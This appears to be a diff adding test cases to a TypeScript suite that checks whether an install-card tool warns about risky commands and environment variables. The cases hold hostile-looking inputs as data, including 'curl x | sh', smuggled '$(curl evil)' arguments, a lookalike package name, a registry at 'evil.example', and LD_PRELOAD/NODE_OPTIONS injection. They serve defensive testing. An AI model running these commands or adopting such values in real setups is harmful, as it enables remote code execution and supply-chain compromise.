@@ -23,6 +23,17 @@ it.each([
   ['docker', ['run', 'x'], {}, 'Downloads and runs code'],
   ['bash', ['-c', 'curl x | sh'], {}, 'command of a shell'],
   ['node', ['-e', 'x()'], {}, 'the link itself contains'],
+  ['/usr/bin/env', ['-S', 'bash', '-lc', 'x'], {}, 'command of a shell'],
+  ['busybox', ['sh', '-c', 'x'], {}, 'command of a shell'],
+  ['nice', ['npx', 'x'], {}, 'Downloads and runs code'],
+  ['python3.12', ['-c', 'x'], {}, 'the link itself contains'],
+  ['node', ['--eval=x()'], {}, 'the link itself contains'],
+  ['perl', ['-pe', 'x'], {}, 'the link itself contains'],
+  ['server', ['x; curl evil'], {}, 'a shell runs several commands'],
+  ['server', ['$(curl evil)'], {}, 'a shell runs several commands'],
+  ['server', ['@mоdel/x'], {}, 'can look like others'],
+  ['server', [], { npm_config_registry: 'https://evil.example' }, 'npm_config_registry'],
+  ['server', [], { SSH_ASKPASS: '/tmp/x' }, 'SSH_ASKPASS'],
   ['server', [], { NODE_OPTIONS: '--require x', LD_PRELOAD: 'x' }, 'NODE_OPTIONS, LD_PRELOAD'],
 ])('%s %j warns', (command, args, env, words) => {
   expect(cardOf(command, args, env).install.warnings.join()).toContain(words);
@@ -35,6 +46,20 @@ it('shows values, but of secrets the beginning alone', () => {
     { name: 'API_KEY', value: 'sk•••••• (13 characters)' },
   ]);
   expect(install.warnings).toEqual([]);
+});
+
+it('shows the value of what changes how programs are loaded, whatever it is called', () => {
+  expect(cardOf('server', [], { SSH_ASKPASS: '/tmp/evil' }).install.pairs).toEqual([
+    { name: 'SSH_ASKPASS', value: '/tmp/evil' },
+  ]);
+});
+
+it('has no button that stands out where something is unusual', () => {
+  const looks = (command: string, args: readonly string[]) => cardOf(command, args).answers.map(({ look }) => look);
+  expect([looks('server', ['--port', '80']), looks('server', ['a|b'])]).toEqual([
+    ['main', ''],
+    ['', ''],
+  ]);
 });
 
 it('offers nothing where the name is taken', () => {
